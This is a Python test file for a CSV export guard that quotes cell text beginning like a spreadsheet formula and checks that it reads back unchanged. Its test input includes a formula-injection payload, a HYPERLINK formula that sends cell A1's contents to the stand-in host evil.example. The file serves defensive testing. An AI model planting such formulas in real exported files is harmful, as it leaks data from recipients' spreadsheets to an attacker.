"""Texts in cells of a CSV: none is a formula, and each comes back as it was."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.datasets import labelled
from models.datasets.cells import guarded, unguarded
from streams.cli.samples import Format, _written
from streams.core.labelling import Picked

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-5% today", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-1"])
def test_what_begins_like_a_formula_gets_a_quote(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "'", "''", "up 5%", "'quoted' = said", "a=1", " =1", "大涨"])
def test_any_other_text_stays(text):
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text() | st.text(alphabet="'=+-@\t\ra", max_size=6))
def test_a_text_comes_back(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in tuple("=+-@\t\r")


def test_a_table_of_samples_holds_no_formula_and_is_read_as_it_was(tmp_path):
    texts = [FORMULA, "'=1 is no formula", "'quoted'", "-5% today", "up"]
    picked = [Picked(text, "-1", f"@{text}", "news", "en", "random", 0.5, 0, "m") for text in texts]
    path = tmp_path / "x.csv"
    path.write_text(_written(picked, Format.CSV), newline="")
    with path.open(newline="") as lines:
        rows = list(csv.DictReader(lines))
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    with path.open("w", newline="") as lines:  # filled in: what was said was right
        table = csv.DictWriter(lines, list(rows[0]))
        table.writeheader()
        table.writerows(row | {"label": row["said"]} for row in rows)
    assert [(row.text, row.label) for row in labelled.read(path).rows] == [(text, "-1") for text in texts]
